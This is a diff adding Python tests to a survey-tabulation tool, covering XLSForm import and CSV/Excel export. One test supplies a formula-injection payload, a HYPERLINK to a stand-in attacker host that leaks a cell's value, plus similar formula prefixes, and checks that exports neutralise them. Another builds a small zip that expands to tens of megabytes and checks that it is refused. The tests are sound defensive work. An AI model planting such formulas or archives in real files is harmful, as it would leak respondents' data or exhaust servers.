@@ -182,6 +182,20 @@ def test_export_with_labels_or_codes_and_no_free_text_below_five(tmp_path):
     assert book.active.max_row == 7
 
 
+def test_no_answer_exported_can_start_a_formula():
+    """A resident's free text such as =HYPERLINK(…) must reach Excel as text (CSV injection)."""
+    header = ["编号", "Q7 建议"]
+    body = [[1, '=HYPERLINK("http://evil.example/?d="&A2,"点我")'], [2, "+1+1"], [3, "-2+3"],
+            [4, "@SUM(1,2)"], [5, "正常的建议"], [6, -1]]
+    lines = list(csv.reader(io.StringIO(tabulation.to_csv(header, body).decode("utf-8-sig"))))
+    assert [line[1] for line in lines[1:]] == [
+        '\'=HYPERLINK("http://evil.example/?d="&A2,"点我")', "'+1+1", "'-2+3", "'@SUM(1,2)",
+        "正常的建议", "-1"]  # a number stays a number
+    sheet = load_workbook(io.BytesIO(tabulation.to_xlsx(header, body))).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet["B2"].value.startswith("=HYPERLINK")  # shown as typed, but as text
+
+
 def test_the_rates_chart_and_distribution_charts_are_echarts_options(tab):
     option = tabulation.chart(tab.questions[0])
     assert option["yAxis"]["data"][0] == "满意"
@@ -259,6 +273,66 @@ def test_a_bad_workbook_names_sheet_row_and_column_of_every_fault():
                 "sheet survey, row 4, column C (label::zh-CN)"]  # no label
     for where in expected:
         assert any(m.startswith(where) for m in messages), (where, messages)
+
+
+def test_kobo_language_columns_and_the_list_name_spelling_are_read():
+    data = workbook(
+        [["type", "name", "label::Chinese (zh)", "label::English (en)", "hint::中文", "leaf"],
+         ["select_one sat", "Q1", "总体满意吗？", "Satisfied overall?", "请选一项", "B1"]],
+        [["list name", "name", "label::Chinese (zh)", "label::English (en)", "score", "satisfied"],
+         ["sat", "good", "满意", "Satisfied", 100, "yes"],
+         ["sat", "bad", "不满意", "Dissatisfied", 0, ""]],
+        [["form_title::Chinese (zh)", "form_title::English (en)"], ["测试问卷", "Test survey"]])
+    doc = xlsform.import_workbook(data, LEAVES)
+    [q] = doc["questions"]
+    assert q["label"] == {"zh-CN": "总体满意吗？", "en": "Satisfied overall?"}
+    assert q["hint"]["zh-CN"] == "请选一项"
+    assert doc["title"] == {"zh-CN": "测试问卷", "en": "Test survey"}
+    assert qn.scale_of(q) == {"满意": 100, "不满意": 0}
+
+
+def test_skip_logic_and_checks_are_refused_naming_the_cell_not_dropped():
+    data = workbook(
+        [["type", "name", "label", "required", "relevant"],
+         ["select_one sat", "Q1", "总体满意吗？", "yes", ""],
+         ["text", "Q2", "为什么不满意？", "yes", "${Q1} = 'bad'"]],
+        [["list_name", "name", "label", "score", "satisfied"],
+         ["sat", "good", "满意", 100, "yes"], ["sat", "bad", "不满意", 0, ""]])
+    with pytest.raises(InvalidInput) as caught:
+        xlsform.import_workbook(data, LEAVES)
+    assert any(m.startswith("sheet survey, row 3, column E (relevant)")
+               for m in caught.value.errors.values()), caught.value.errors
+
+
+def test_formatted_empty_rows_below_the_questions_do_not_count():
+    book = Workbook()
+    survey = book.active
+    survey.title = "survey"
+    survey.append(["type", "name", "label"])
+    survey.append(["text", "Q1", "建议"])
+    from openpyxl.styles import Border, Side
+
+    for number in range(3, 1600):  # borders down the sheet, no values
+        survey.cell(row=number, column=1).border = Border(bottom=Side(style="thin"))
+    assert survey.max_row == 1599
+    book.create_sheet("choices").append(["list_name", "name", "label"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    doc = xlsform.import_workbook(buffer.getvalue(), LEAVES)
+    assert [q["id"] for q in doc["questions"]] == ["Q1"]
+
+
+def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_read():
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (60 * 1024 * 1024))  # ~60 kB packed
+    assert len(buffer.getvalue()) < xlsform.MAX_BYTES
+    with pytest.raises(InvalidInput) as caught:
+        xlsform.import_workbook(buffer.getvalue(), LEAVES)
+    assert "50" in caught.value.errors["file"]
 
 
 def test_not_a_workbook_is_refused():
